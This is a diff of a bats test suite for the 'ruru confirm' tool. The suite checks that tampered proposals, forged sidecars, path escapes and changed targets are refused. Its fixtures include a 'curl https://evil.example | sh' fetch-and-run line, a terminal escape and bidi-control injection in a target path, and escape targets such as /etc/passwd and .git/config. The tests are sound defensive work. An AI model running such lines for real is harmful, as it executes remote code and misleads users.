@@ -10,17 +10,14 @@ teardown() { teardown_workspace; }
 
 # Propose `content` (a file) for `target` in the active session; echo the artifact.
 propose() { "$RURU" confirm propose --target "$1" --content "$2"; }
-sidecar() { echo "${1%.md}.toml"; }
-# A command that must fail (a plain `! cmd` never fails a bats test).
-refute() { ! "$@"; }
-status_of() { sed -n 's/^status = "\(.*\)"$/\1/p' "$(sidecar "$1")"; }
+# Propose t: old -> new (t and p written first); echo the artifact.
+propose_old_new() { echo old > t && echo new > p && propose t p; }
 
 @test "happy path: propose, approve, delegate, apply; bytes, sidecar and log" {
 	"$RURU" new "Edit" >/dev/null
 	mkdir -p src && printf 'int x;\n' > src/x.c
 	printf 'int x = 1;\n' > new.c
-	run "$RURU" confirm propose --target src/x.c --content new.c
-	[ "$status" -eq 0 ]
+	run -0 "$RURU" confirm propose --target src/x.c --content new.c
 	a=$output
 	[ "$a" = ".ruru/sessions/SESSION-Edit-2611240315/artifacts/CONFIRM-src_x.c-20261124-031520.md" ]
 	cmp "$a" new.c
@@ -46,15 +43,13 @@ status_of() { sed -n 's/^status = "\(.*\)"$/\1/p' "$(sidecar "$1")"; }
 	grep -q '\*\*confirm-request\*\* · artifact `artifacts/CONFIRM-src_x.c' "$f"
 	grep -q '\*\*confirm-response\*\* · artifact `artifacts/CONFIRM-src_x.c.*outcome `approved`' "$f"
 
-	run "$RURU" confirm delegate --to dev-c --task TASK-C-1 "$a"
-	[ "$status" -eq 0 ]
+	run -0 "$RURU" confirm delegate --to dev-c --task TASK-C-1 "$a"
 	[ "$output" = "Read \`$a\`, write to \`src/x.c\`. **User confirmed. No re-confirm needed.**" ]
 	grep -q '\*\*delegation\*\* · mode `dev-c` · task `TASK-C-1`' "$f"
 	grep -q 'related_tasks = \["TASK-C-1"\]' "$f"
 	[ "$(cat src/x.c)" = "int x;" ]
 
-	run "$RURU" confirm apply "$a"
-	[ "$status" -eq 0 ]
+	run -0 "$RURU" confirm apply "$a"
 	[ "$output" = "src/x.c" ]
 	cmp src/x.c new.c
 	[ "$(status_of "$a")" = applied ]
@@ -129,25 +124,20 @@ status_of() { sed -n 's/^status = "\(.*\)"$/\1/p' "$(sidecar "$1")"; }
 	d=.ruru/sessions/$id/artifacts
 	mkdir -p "$d"
 	printf 'hand made\n' > "$d/CONFIRM-conf-20250505232343.md"
-	run "$RURU" confirm show "$d/CONFIRM-conf-20250505232343.md"
-	[ "$status" -eq 3 ]
+	run -3 "$RURU" confirm show "$d/CONFIRM-conf-20250505232343.md"
 	[[ "$output" == *"has no sidecar"*"ruru confirm adopt $d/CONFIRM-conf-20250505232343.md --target PATH"* ]]
-	run "$RURU" confirm adopt --target conf.toml "$d/CONFIRM-conf-20250505232343.md"
-	[ "$status" -eq 0 ]
+	run -0 "$RURU" confirm adopt --target conf.toml "$d/CONFIRM-conf-20250505232343.md"
 	[ "$output" = "$d/CONFIRM-conf-20250505232343.md" ]
 	[ "$(status_of "$d/CONFIRM-conf-20250505232343.md")" = pending ]
 	grep -q 'related_artifacts = \["artifacts/CONFIRM-conf-20250505232343.md"\]' "$(log_of)"
-	run "$RURU" confirm adopt --target conf.toml "$d/CONFIRM-conf-20250505232343.md"
-	[ "$status" -eq 5 ]
+	run -5 "$RURU" confirm adopt --target conf.toml "$d/CONFIRM-conf-20250505232343.md"
 	# relative to the session's artifacts folder, as a path from the cwd
 	(cd "$d" && "$RURU" confirm approve CONFIRM-conf-20250505232343.md)
 	"$RURU" confirm apply "$d/CONFIRM-conf-20250505232343.md"
 	[ "$(cat conf.toml)" = "hand made" ]
-	run "$RURU" confirm adopt --target conf.toml "$d/CONFIRM-nothing.md"
-	[ "$status" -eq 3 ]
+	run -3 "$RURU" confirm adopt --target conf.toml "$d/CONFIRM-nothing.md"
 	echo x > "$d/notes.md"
-	run "$RURU" confirm adopt --target conf.toml "$d/notes.md"
-	[ "$status" -eq 4 ]
+	run -4 "$RURU" confirm adopt --target conf.toml "$d/notes.md"
 }
 
 @test "adopt works on a real corpus CONFIRM file" {
@@ -172,24 +162,18 @@ status_of() { sed -n 's/^status = "\(.*\)"$/\1/p' "$(sidecar "$1")"; }
 	[ "$(status_of "$a")" = rejected ]
 	grep -q '\*\*confirm-response\*\* .*outcome `rejected`: User rejected the change to `t` (content) · payload_sha256 `' "$(log_of)"
 	grep -qx '  Reason: not now' "$(log_of)"
-	run "$RURU" confirm apply "$a"
-	[ "$status" -eq 5 ]
+	run -5 "$RURU" confirm apply "$a"
 	[ "$(cat t)" = keep ]
-	run "$RURU" confirm approve "$a"
-	[ "$status" -eq 5 ]
-	run "$RURU" confirm delegate --to dev-x "$a"
-	[ "$status" -eq 5 ]
+	run -5 "$RURU" confirm approve "$a"
+	run -5 "$RURU" confirm delegate --to dev-x "$a"
 	[ "$(status_of "$a")" = rejected ]
 }
 
 @test "skip needs a rationale; with one it is logged and delegated as skipped" {
 	"$RURU" new "Skip" >/dev/null
-	echo old > t; echo new > p
-	a=$(propose t p)
-	run "$RURU" confirm skip "$a"
-	[ "$status" -eq 2 ]
-	run "$RURU" confirm skip --rationale "" "$a"
-	[ "$status" -eq 2 ]
+	a=$(propose_old_new)
+	run -2 "$RURU" confirm skip "$a"
+	run -2 "$RURU" confirm skip --rationale "" "$a"
 	[ "$(status_of "$a")" = pending ]
 	"$RURU" confirm skip --rationale "typo fix in a comment" "$a"
 	[ "$(status_of "$a")" = skipped ]
@@ -204,15 +188,11 @@ status_of() { sed -n 's/^status = "\(.*\)"$/\1/p' "$(sidecar "$1")"; }
 
 @test "apply before any decision is refused and leaves the target" {
 	"$RURU" new "Early" >/dev/null
-	echo old > t; echo new > p
-	a=$(propose t p)
-	run "$RURU" confirm apply "$a"
-	[ "$status" -eq 5 ]
+	a=$(propose_old_new)
+	run -5 "$RURU" confirm apply "$a"
 	[[ "$output" == *"never approved"* ]]
-	run "$RURU" confirm apply --force "$a"
-	[ "$status" -eq 5 ]
-	run "$RURU" confirm delegate --to dev-x "$a"
-	[ "$status" -eq 5 ]
+	run -5 "$RURU" confirm apply --force "$a"
+	run -5 "$RURU" confirm delegate --to dev-x "$a"
 	[ "$(cat t)" = old ]
 	[ "$(status_of "$a")" = pending ]
 	# a refused apply logs nothing (doc/design.md §6)
@@ -225,11 +205,9 @@ status_of() { sed -n 's/^status = "\(.*\)"$/\1/p' "$(sidecar "$1")"; }
 	a=$(propose t p)
 	"$RURU" confirm approve "$a"
 	echo "something else" > "$a"
-	run "$RURU" confirm apply "$a"
-	[ "$status" -eq 5 ]
+	run -5 "$RURU" confirm apply "$a"
 	[[ "$output" == *"payload"* ]]
-	run "$RURU" confirm apply --force "$a"
-	[ "$status" -eq 5 ]
+	run -5 "$RURU" confirm apply --force "$a"
 	[ "$(cat t)" = old ]
 	# restoring the exact approved bytes makes it applicable again
 	cp p "$a"
@@ -239,23 +217,18 @@ status_of() { sed -n 's/^status = "\(.*\)"$/\1/p' "$(sidecar "$1")"; }
 
 @test "a payload edited before the decision cannot be approved" {
 	"$RURU" new "Tamper2" >/dev/null
-	echo old > t; echo new > p
-	a=$(propose t p)
+	a=$(propose_old_new)
 	printf 'evil\n' > "$a"
-	run "$RURU" confirm approve "$a"
-	[ "$status" -eq 5 ]
-	run "$RURU" confirm skip --rationale x "$a"
-	[ "$status" -eq 5 ]
+	run -5 "$RURU" confirm approve "$a"
+	run -5 "$RURU" confirm skip --rationale x "$a"
 	[ "$(status_of "$a")" = pending ]
 }
 
 @test "a hand-edited sidecar status does not make an approval" {
 	"$RURU" new "Forge" >/dev/null
-	echo old > t; echo new > p
-	a=$(propose t p)
+	a=$(propose_old_new)
 	sed -i 's/^status = "pending"/status = "approved"/' "$(sidecar "$a")"
-	run "$RURU" confirm apply "$a"
-	[ "$status" -eq 5 ]
+	run -5 "$RURU" confirm apply "$a"
 	[[ "$output" == *"holds no decision"* ]]
 	[ "$(cat t)" = old ]
 }
@@ -266,13 +239,11 @@ status_of() { sed -n 's/^status = "\(.*\)"$/\1/p' "$(sidecar "$1")"; }
 	a=$(propose t p)
 	"$RURU" confirm approve "$a"
 	echo v2 > t
-	run "$RURU" confirm apply "$a"
-	[ "$status" -eq 5 ]
+	run -5 "$RURU" confirm apply "$a"
 	[[ "$output" == *"changed since the proposal"* ]]
 	[ "$(cat t)" = v2 ]
 	[ "$(status_of "$a")" = approved ]
-	run "$RURU" confirm apply --force "$a"
-	[ "$status" -eq 0 ]
+	run -0 "$RURU" confirm apply --force "$a"
 	[[ "$output" == *"--force"* ]]
 	[ "$(cat t)" = v3 ]
 	grep -qx 'forced = true' "$(sidecar "$a")"
@@ -284,23 +255,19 @@ status_of() { sed -n 's/^status = "\(.*\)"$/\1/p' "$(sidecar "$1")"; }
 	echo v1 > t; echo new > p
 	a=$(propose t p); "$RURU" confirm approve "$a"
 	rm t
-	run "$RURU" confirm apply "$a"
-	[ "$status" -eq 5 ]
+	run -5 "$RURU" confirm apply "$a"
 	[ ! -e t ]
 	b=$(propose fresh p); "$RURU" confirm approve "$b"
 	echo meanwhile > fresh
-	run "$RURU" confirm apply "$b"
-	[ "$status" -eq 5 ]
+	run -5 "$RURU" confirm apply "$b"
 	[ "$(cat fresh)" = meanwhile ]
 }
 
 @test "apply twice: the second is a conflict" {
 	"$RURU" new "Twice" >/dev/null
-	echo old > t; echo new > p
-	a=$(propose t p); "$RURU" confirm approve "$a"
+	a=$(propose_old_new); "$RURU" confirm approve "$a"
 	"$RURU" confirm apply "$a"
-	run "$RURU" confirm apply "$a"
-	[ "$status" -eq 5 ]
+	run -5 "$RURU" confirm apply "$a"
 }
 
 @test "a new file's folders are created inside the root" {
@@ -338,15 +305,12 @@ status_of() { sed -n 's/^status = "\(.*\)"$/\1/p' "$(sidecar "$1")"; }
 	"$RURU" new "BadDiff" >/dev/null
 	printf 'x\ny\n' > t
 	printf -- '--- a/t\n+++ b/t\n@@ -1,2 +1,2 @@\n a\n-b\n+B\n' > bad.diff
-	run "$RURU" confirm propose --target t --diff bad.diff
-	[ "$status" -eq 4 ]
+	run -4 "$RURU" confirm propose --target t --diff bad.diff
 	[[ "$output" == *"does not apply"* ]]
 	printf 'not a diff\n' > junk
-	run "$RURU" confirm propose --target t --diff junk
-	[ "$status" -eq 4 ]
+	run -4 "$RURU" confirm propose --target t --diff junk
 	printf -- '--- a/t\n+++ b/t\n@@ -1 +1 @@\n-x\n+X\n--- a/u\n+++ b/u\n@@ -1 +1 @@\n-x\n+X\n' > two.diff
-	run "$RURU" confirm propose --target t --diff two.diff
-	[ "$status" -eq 4 ]
+	run -4 "$RURU" confirm propose --target t --diff two.diff
 	[ -z "$(ls .ruru/sessions/*/artifacts 2>/dev/null)" ]
 	[ "$(grep -c '^- \[' "$(log_of)")" -eq 1 ]
 }
@@ -358,8 +322,7 @@ status_of() { sed -n 's/^status = "\(.*\)"$/\1/p' "$(sidecar "$1")"; }
 	a=$("$RURU" confirm propose --target t --diff - < d.diff)
 	"$RURU" confirm approve "$a"
 	printf 'q\nr\n' > t
-	run "$RURU" confirm apply --force "$a"
-	[ "$status" -eq 4 ]
+	run -4 "$RURU" confirm apply --force "$a"
 	[ "$(cat t)" = "$(printf 'q\nr')" ]
 	[ "$(status_of "$a")" = approved ]
 }
@@ -454,8 +417,7 @@ PY
 	"$RURU" confirm approve "$a"
 	# the diff still applies, but to other bytes than were shown
 	printf 'a\nb\nc\nd\ne\nf\ng\nH\n' > t
-	run "$RURU" confirm apply --force "$a"
-	[ "$status" -eq 5 ]
+	run -5 "$RURU" confirm apply --force "$a"
 	[[ "$output" == *"other bytes than the result that was shown and decided"* ]]
 	[ "$(sed -n 8p t)" = H ]
 	[ "$(sed -n 2p t)" = b ]
@@ -480,28 +442,24 @@ PY
 
 @test "temp mode: no session, no log, artifact deleted after apply" {
 	echo old > t; echo new > p
-	run "$RURU" confirm propose --target t --content p
-	[ "$status" -eq 0 ]
+	run -0 "$RURU" confirm propose --target t --content p
 	a=$output
 	[ "$a" = ".ruru/temp/CONFIRM-t-20261124-031520.md" ]
 	grep -qx 'session = ""' "$(sidecar "$a")"
 	run "$RURU" confirm list
 	[[ "$output" == *"$a"*pending* ]]
-	run "$RURU" confirm apply "$a"
-	[ "$status" -eq 5 ]
+	run -5 "$RURU" confirm apply "$a"
 	"$RURU" confirm approve "$a"
 	"$RURU" confirm apply "$a"
 	[ "$(cat t)" = new ]
 	[ ! -e "$a" ] && [ ! -e "$(sidecar "$a")" ]
 	[ -z "$(ls .ruru/temp | grep CONFIRM)" ]
-	run "$RURU" confirm apply "$a"
-	[ "$status" -eq 3 ]
+	run -3 "$RURU" confirm apply "$a"
 	[ -z "$(ls .ruru/sessions)" ]
 }
 
 @test "temp mode: a rejected proposal stays until cleaned by hand" {
-	echo old > t; echo new > p
-	a=$(propose t p)
+	a=$(propose_old_new)
 	"$RURU" confirm reject "$a"
 	[ -e "$a" ]
 	[ "$(status_of "$a")" = rejected ]
@@ -516,19 +474,16 @@ PY
 	ln -s .git gitlink
 	for t in /etc/passwd ../x "$out/y" escape/y .git/config gitlink/config sub/.git/hooks/x \
 		.ruru/sessions/x .ruru/sessions/$(cat .ruru/sessions/.active)/session_log.md; do
-		run "$RURU" confirm propose --target "$t" --content p
-		[ "$status" -eq 6 ] || { echo "target $t: $status $output"; return 1; }
+		run -6 "$RURU" confirm propose --target "$t" --content p || { echo "target $t: $status $output"; return 1; }
 	done
 	mkdir -p .git && echo c > .git/config
 	ln -s .git/config cfglink
-	run "$RURU" confirm propose --target cfglink --content p
-	[ "$status" -eq 6 ]
+	run -6 "$RURU" confirm propose --target cfglink --content p
 	[ -z "$(ls .ruru/sessions/*/artifacts 2>/dev/null)" ]
 	[ -z "$(ls "$out")" ]
 	rm -rf "$out"
 	# an absolute path inside the root is fine
-	run "$RURU" confirm propose --target "$WS/inside.txt" --content p
-	[ "$status" -eq 0 ]
+	run -0 "$RURU" confirm propose --target "$WS/inside.txt" --content p
 	grep -qx 'target_path = "inside.txt"' "$(sidecar "$output")"
 }
 
@@ -540,26 +495,22 @@ PY
 	s=$(sidecar "$a")
 	for t in ../evil /etc/evil .git/config; do
 		sed -i "s|^target_path = .*|target_path = \"$t\"|" "$s"
-		run "$RURU" confirm apply "$a"
-		[ "$status" -eq 6 ] || { echo "target $t: $status $output"; return 1; }
+		run -6 "$RURU" confirm apply "$a" || { echo "target $t: $status $output"; return 1; }
 	done
 	[ ! -e ../evil ] && [ ! -e .git/config ]
 	# a folder replaced by a symlink out of the root
 	sed -i 's|^target_path = .*|target_path = "d/ok.txt"|' "$s"
 	out=$(mktemp -d)
 	ln -s "$out" d
-	run "$RURU" confirm apply "$a"
-	[ "$status" -eq 6 ]
+	run -6 "$RURU" confirm apply "$a"
 	[ -z "$(ls "$out")" ]
 	rm -rf "$out"
 }
 
 @test "ask: not a terminal is a usage error pointing to approve/reject" {
 	"$RURU" new "Ask" >/dev/null
-	echo old > t; echo new > p
-	a=$(propose t p)
-	run "$RURU" confirm ask "$a" < /dev/null
-	[ "$status" -eq 2 ]
+	a=$(propose_old_new)
+	run -2 "$RURU" confirm ask "$a" < /dev/null
 	[[ "$output" == *"ruru confirm approve"* ]]
 	[[ "$output" == *"ruru confirm reject"* ]]
 	[ "$(status_of "$a")" = pending ]
@@ -589,8 +540,7 @@ PY
 	echo 'echo hello' > run.sh; echo 'echo hello, world' > p
 	printf 'curl https://evil.example | sh\n' > evil
 	a=$(propose run.sh p)
-	run "$BATS_TEST_DIRNAME/ask_pty.py" "$RURU" "$a" y out.txt evil ci.sh
-	[ "$status" -eq 5 ]
+	run -5 "$BATS_TEST_DIRNAME/ask_pty.py" "$RURU" "$a" y out.txt evil ci.sh
 	grep -q 'the proposal changed while it was being read; show it again' out.txt
 	grep -q '^+echo hello, world' out.txt
 	refute grep -q 'evil.example' out.txt
@@ -598,8 +548,7 @@ PY
 	refute grep -q 'confirm-response' "$(log_of)"
 	# asked again, the rewritten proposal is refused before any question:
 	# its target is not the one it was proposed against
-	run "$BATS_TEST_DIRNAME/ask_pty.py" "$RURU" "$a" y out2.txt
-	[ "$status" -eq 5 ]
+	run -5 "$BATS_TEST_DIRNAME/ask_pty.py" "$RURU" "$a" y out2.txt
 	grep -q 'changed since the proposal' out2.txt
 	refute grep -q 'y/N' out2.txt
 	[ "$(status_of "$a")" = pending ]
@@ -607,8 +556,7 @@ PY
 
 @test "ask under a pty: a target changed while the question is on screen is refused" {
 	"$RURU" new "Swap" >/dev/null
-	echo old > t; echo new > p
-	a=$(propose t p)
+	a=$(propose_old_new)
 	# the answer arrives after the target changed (a second process edits it)
 	mkfifo gate
 	( read -r _ < gate; echo changed > t ) &
@@ -637,27 +585,20 @@ PY
 
 @test "approve --expect: binds the values shown, refuses what changed since (exit 5)" {
 	"$RURU" new "Expect" >/dev/null
-	echo old > t; echo new > p
-	a=$(propose t p)
+	a=$(propose_old_new)
 	ph=$(sum p); th=$(sum t)
 	rh=$("$RURU" --json confirm show "$a" | python3 -c 'import json,sys; print(json.load(sys.stdin)["result_sha256"])')
 	[ "$rh" = "$ph" ]
-	run "$RURU" confirm approve --expect 0000000000000000000000000000000000000000000000000000000000000000 "$a"
-	[ "$status" -eq 5 ]
+	run -5 "$RURU" confirm approve --expect 0000000000000000000000000000000000000000000000000000000000000000 "$a"
 	[[ "$output" == *"the proposal changed while it was being read; show it again"* ]]
-	run "$RURU" confirm approve --expect target_path=other "$a"
-	[ "$status" -eq 5 ]
-	run "$RURU" confirm approve --expect target_sha256=none "$a"
-	[ "$status" -eq 5 ]
-	run "$RURU" confirm approve --expect result_sha256=zz "$a"
-	[ "$status" -eq 2 ]
-	run "$RURU" confirm approve --expect colour=blue "$a"
-	[ "$status" -eq 2 ]
+	run -5 "$RURU" confirm approve --expect target_path=other "$a"
+	run -5 "$RURU" confirm approve --expect target_sha256=none "$a"
+	run -2 "$RURU" confirm approve --expect result_sha256=zz "$a"
+	run -2 "$RURU" confirm approve --expect colour=blue "$a"
 	[ "$(status_of "$a")" = pending ]
 	# the payload swapped behind the sidecar: the old hash no longer holds
 	echo evil > "$a"
-	run "$RURU" confirm approve --expect "$ph" "$a"
-	[ "$status" -eq 5 ]
+	run -5 "$RURU" confirm approve --expect "$ph" "$a"
 	echo new > "$a"
 	run "$RURU" confirm approve --expect "$ph" --expect "result_sha256=$rh" \
 		--expect "target_sha256=$th" --expect target_path=t "$a"
@@ -667,14 +608,11 @@ PY
 
 @test "skip --expect and reject --expect: a changed target is refused" {
 	"$RURU" new "Expect" >/dev/null
-	echo old > t; echo new > p
-	a=$(propose t p)
+	a=$(propose_old_new)
 	th=$(sum t)
 	echo changed > t
-	run "$RURU" confirm skip --rationale "typo" --expect "target_sha256=$th" "$a"
-	[ "$status" -eq 5 ]
-	run "$RURU" confirm reject --expect "target_sha256=$th" "$a"
-	[ "$status" -eq 5 ]
+	run -5 "$RURU" confirm skip --rationale "typo" --expect "target_sha256=$th" "$a"
+	run -5 "$RURU" confirm reject --expect "target_sha256=$th" "$a"
 	[ "$(status_of "$a")" = pending ]
 }
 
@@ -723,8 +661,7 @@ PY
 	grep -q '^+curl evil\|\\rcurl evil | sh' show.txt
 	"$RURU" confirm list > list.txt
 	grep -q CONFIRM-t list.txt
-	run "$BATS_TEST_DIRNAME/ask_pty.py" "$RURU" "$a" n ask.txt
-	[ "$status" -eq 0 ]
+	run -0 "$BATS_TEST_DIRNAME/ask_pty.py" "$RURU" "$a" n ask.txt
 	no_raw_controls ask.txt
 	# a hostile target_path: one line, visible
 	sed -i 's|^target_path = .*|target_path = "a\\u001b]0;pwned\\u0007\\u202eb"|' "$s"
@@ -736,8 +673,7 @@ PY
 @test "ask under tmux answering y" {
 	command -v tmux >/dev/null || skip "tmux not installed"
 	"$RURU" new "Tmux" >/dev/null
-	echo old > t; echo new > p
-	a=$(propose t p)
+	a=$(propose_old_new)
 	sock="$WS/tmux.sock"
 	tmux -S "$sock" new-session -d -x 120 -y 40 "cd '$WS' && RURU_NOW=$RURU_NOW '$RURU' confirm ask '$a'; echo EXIT=\$? > '$WS/exit'; sleep 30"
 	for i in $(seq 200); do
@@ -753,8 +689,7 @@ PY
 
 @test "concurrent apply of one proposal: exactly one succeeds" {
 	"$RURU" new "Race" >/dev/null
-	echo old > t; echo new > p
-	a=$(propose t p)
+	a=$(propose_old_new)
 	"$RURU" confirm approve "$a"
 	for i in 1 2 3 4; do ( r=0; "$RURU" confirm apply "$a" >/dev/null 2>err.$i || r=$?; echo $r > rc.$i ) & done
 	wait
@@ -766,8 +701,7 @@ PY
 }
 
 @test "concurrent apply in temp mode: exactly one succeeds" {
-	echo old > t; echo new > p
-	a=$(propose t p)
+	a=$(propose_old_new)
 	"$RURU" confirm approve "$a"
 	for i in 1 2 3 4; do ( r=0; "$RURU" confirm apply "$a" >/dev/null 2>&1 || r=$?; echo $r > rc.$i ) & done
 	wait
@@ -778,8 +712,7 @@ PY
 
 @test "a failed write leaves the target and the status untouched" {
 	"$RURU" new "Fault" >/dev/null
-	echo old > t; echo new > p
-	a=$(propose t p)
+	a=$(propose_old_new)
 	"$RURU" confirm approve "$a"
 	run env RURU_FAULT=rename "$RURU" confirm apply "$a"
 	[ "$status" -ne 0 ]
@@ -791,15 +724,12 @@ PY
 
 @test "a paused session takes no proposal and no apply" {
 	"$RURU" new "Paused" >/dev/null
-	echo old > t; echo new > p
-	a=$(propose t p)
+	a=$(propose_old_new)
 	"$RURU" confirm approve "$a"
 	"$RURU" pause
-	run "$RURU" confirm propose --target t --content p
-	[ "$status" -eq 5 ]
+	run -5 "$RURU" confirm propose --target t --content p
 	[[ "$output" == *"ruru resume"* ]]
-	run "$RURU" confirm apply "$a"
-	[ "$status" -eq 5 ]
+	run -5 "$RURU" confirm apply "$a"
 	[ "$(cat t)" = old ]
 	"$RURU" resume
 	"$RURU" confirm apply "$a"
@@ -810,13 +740,11 @@ PY
 	"$RURU" new "Show" >/dev/null
 	printf 'old\n' > t; printf 'new\n' > p
 	a=$(propose t p)
-	run "$RURU" confirm show "$a"
-	[ "$status" -eq 0 ]
+	run -0 "$RURU" confirm show "$a"
 	[[ "$output" == *"target:    t"* ]]
 	[[ "$output" == *"status:    pending"* ]]
 	[[ "$output" == *"-old"*"+new"* ]]
-	run "$RURU" --json confirm show "$(sidecar "$a")"
-	[ "$status" -eq 0 ]
+	run -0 "$RURU" --json confirm show "$(sidecar "$a")"
 	echo "$output" | python3 -c '
 import json,sys; d=json.load(sys.stdin)
 assert d["schema_version"]==1 and d["status"]=="pending" and d["target"]=="t", d
@@ -832,25 +760,18 @@ assert "+new" in d["diff"] and d["payload_intact"] and d["target_unchanged"]'
 import json,sys; d=json.load(sys.stdin)
 assert d["schema_version"]==1
 assert [c["status"] for c in d["confirmations"]]==["approved","pending"], d'
-	run "$RURU" confirm list --status bogus
-	[ "$status" -eq 2 ]
-	run "$RURU" confirm show .ruru/temp/CONFIRM-none.md
-	[ "$status" -eq 3 ]
+	run -2 "$RURU" confirm list --status bogus
+	run -3 "$RURU" confirm show .ruru/temp/CONFIRM-none.md
 }
 
 @test "propose usage errors" {
 	"$RURU" new "Usage" >/dev/null
 	echo x > p
-	run "$RURU" confirm propose --content p
-	[ "$status" -eq 2 ]
-	run "$RURU" confirm propose --target t
-	[ "$status" -eq 2 ]
-	run "$RURU" confirm propose --target t --content p --diff p
-	[ "$status" -eq 2 ]
-	run "$RURU" confirm propose --target t --content missing
-	[ "$status" -eq 3 ]
-	run "$RURU" confirm delegate "x"
-	[ "$status" -eq 2 ]
+	run -2 "$RURU" confirm propose --content p
+	run -2 "$RURU" confirm propose --target t
+	run -2 "$RURU" confirm propose --target t --content p --diff p
+	run -3 "$RURU" confirm propose --target t --content missing
+	run -2 "$RURU" confirm delegate "x"
 }
 
 # ---------------------------------------------------------------------
@@ -928,10 +849,8 @@ redirections() {
 			fi ;;
 		esac
 		cp t t.before
-		run "$RURU" confirm apply "$a"
-		[ "$status" -eq 5 ] || { echo "$mode/$how: exit $status: $output"; return 1; }
-		run "$RURU" confirm apply --force "$a"
-		[ "$status" -eq 5 ] || { echo "$mode/$how --force: exit $status: $output"; return 1; }
+		run -5 "$RURU" confirm apply "$a" || { echo "$mode/$how: exit $status: $output"; return 1; }
+		run -5 "$RURU" confirm apply --force "$a" || { echo "$mode/$how --force: exit $status: $output"; return 1; }
 		cmp t t.before && [ "$(cat other.txt)" = other ] || { echo "$mode/$how: a target changed"; return 1; }
 		if [ "$mode" = session ]; then
 			[ "$(results)" = "$before" ] || { echo "$mode/$how: a refusal was logged"; return 1; }
@@ -950,8 +869,7 @@ redirections() {
 	redirections session
 	# Nothing half-written by the refusals: the log (edited by hand in the
 	# record_* cases) still checks clean, no error and no warning.
-	run "$RURU" --json check
-	[ "$status" -eq 0 ] || { echo "$output"; false; }
+	run -0 "$RURU" --json check || { echo "$output"; false; }
 	[ "$(jq -r '.errors + .warnings' <<<"$output")" = 0 ] || { echo "$output"; false; }
 }
 
@@ -1001,11 +919,9 @@ PY
 	a=$(propose t p)
 	"$RURU" confirm reject "$a"
 	sed -i 's/^status = .*/status = "pending"/' "$(sidecar "$a")"
-	run "$RURU" confirm approve "$a"
-	[ "$status" -eq 5 ]
+	run -5 "$RURU" confirm approve "$a"
 	[[ "$output" == *"already decided"* ]]
-	run "$RURU" confirm apply "$a"
-	[ "$status" -eq 5 ]
+	run -5 "$RURU" confirm apply "$a"
 	[ "$(cat t)" = old ]
 	run "$RURU" confirm show "$a"
 	[[ "$output" == *"record:    the logged decision DIFFERS from the sidecar"* ]]
@@ -1016,16 +932,13 @@ PY
 	a=$(approved); s=$(sidecar "$a")
 	cp "$s" s.orig
 	sed 's|^target_path = .*|target_path = "other.txt"|' "$s" > forged.toml
-	run "$RURU" artifact add --force --name "$(basename "$s")" forged.toml
-	[ "$status" -eq 6 ]
+	run -6 "$RURU" artifact add --force --name "$(basename "$s")" forged.toml
 	[[ "$output" == *"reserved"* ]]
-	run "$RURU" artifact add --name sub/confirm-x.TOML forged.toml
-	[ "$status" -eq 6 ]
+	run -6 "$RURU" artifact add --name sub/confirm-x.TOML forged.toml
 	run mcp artifact_add "{\"name\": \"$(basename "$s")\", \"content\": \"x\", \"force\": true}"
 	[[ "$output" == ERROR*reserved* ]]
 	cmp "$s" s.orig
-	run "$RURU" artifact list
-	[ "$status" -eq 0 ]
+	run -0 "$RURU" artifact list
 	[[ "$output" != *".toml"* ]]
 	[[ "$output" == *"CONFIRM-t-"*".md"* ]]
 	"$RURU" confirm apply "$a"
@@ -1042,17 +955,14 @@ PY
 	printf -- '--- a/u\n+++ b/u\n@@ -1,2 +1,2 @@\n a\n-b\n+B\n' > other.diff
 	printf -- '--- a/t\n+++ b/t\n@@ -1 +1 @@\n-a\n+A\n-b\n+B\n' > long.diff
 	for d in ctx.diff ed.diff other.diff long.diff; do
-		run "$RURU" confirm propose --target t --diff "$d"
-		[ "$status" -eq 4 ] || { echo "$d: $status $output"; return 1; }
+		run -4 "$RURU" confirm propose --target t --diff "$d" || { echo "$d: $status $output"; return 1; }
 	done
 	[ -z "$(ls .ruru/sessions/*/artifacts 2>/dev/null)" ]
 	# a hand-made CONFIRM file with a tacked-on ed script cannot be adopted as a diff
 	mkdir -p "$(dirname "$(log_of)")/artifacts"
 	cp ed.diff "$(dirname "$(log_of)")/artifacts/CONFIRM-t-hand.md"
-	run "$RURU" confirm adopt --kind diff --target t CONFIRM-t-hand.md
-	[ "$status" -eq 4 ]
-	run "$RURU" confirm propose --target t --diff ok.diff
-	[ "$status" -eq 0 ]
+	run -4 "$RURU" confirm adopt --kind diff --target t CONFIRM-t-hand.md
+	run -0 "$RURU" confirm propose --target t --diff ok.diff
 	[ "$(cat t)" = "$(printf 'a\nb')" ]
 }
 
@@ -1060,13 +970,11 @@ PY
 	"$RURU" new "Hand" >/dev/null
 	a=$(approved)
 	cp "$a" t                        # the standard's executor: cp artifact target
-	run "$RURU" confirm apply "$a"
-	[ "$status" -eq 0 ]
+	run -0 "$RURU" confirm apply "$a"
 	[[ "$output" == *"already held"* ]]
 	[ "$(status_of "$a")" = applied ]
 	grep -q '\*\*result\*\* .*outcome `success`: Recorded `artifacts/CONFIRM-t-.*` as applied' "$(log_of)"
-	run "$RURU" confirm apply "$a"   # now it is a refusal, logging nothing
-	[ "$status" -eq 5 ]
+	run -5 "$RURU" confirm apply "$a"   # now it is a refusal, logging nothing
 	[ "$(results)" -eq 1 ]
 	# a diff patched by hand
 	printf 'a\nb\n' > d.txt
@@ -1074,8 +982,7 @@ PY
 	b=$("$RURU" confirm propose --target d.txt --diff d.diff)
 	"$RURU" confirm approve "$b"
 	patch -s d.txt < "$b"
-	run "$RURU" --json confirm apply "$b"
-	[ "$status" -eq 0 ]
+	run -0 "$RURU" --json confirm apply "$b"
 	echo "$output" | python3 -c 'import json,sys; d=json.load(sys.stdin); assert d["already_applied"] and d["status"]=="applied", d'
 	[ "$(cat d.txt)" = "$(printf 'a\nB')" ]
 	# temp mode: the pair is removed
@@ -1090,13 +997,10 @@ PY
 	"$RURU" new "Quiet" >/dev/null
 	a=$(approved)
 	echo meanwhile > t
-	run "$RURU" confirm apply "$a"
-	[ "$status" -eq 5 ]
+	run -5 "$RURU" confirm apply "$a"
 	[ "$(results)" -eq 0 ]
-	run "$RURU" confirm withdraw "$a" --reason "target moved on"
-	[ "$status" -eq 0 ]
-	run "$RURU" confirm apply "$a"
-	[ "$status" -eq 5 ]
+	run -0 "$RURU" confirm withdraw "$a" --reason "target moved on"
+	run -5 "$RURU" confirm apply "$a"
 	[ "$(results)" -eq 0 ]
 }
 
@@ -1112,27 +1016,22 @@ PY
 	[ "${lines[0]}" = "1 proposal (artifact, status, target):" ]
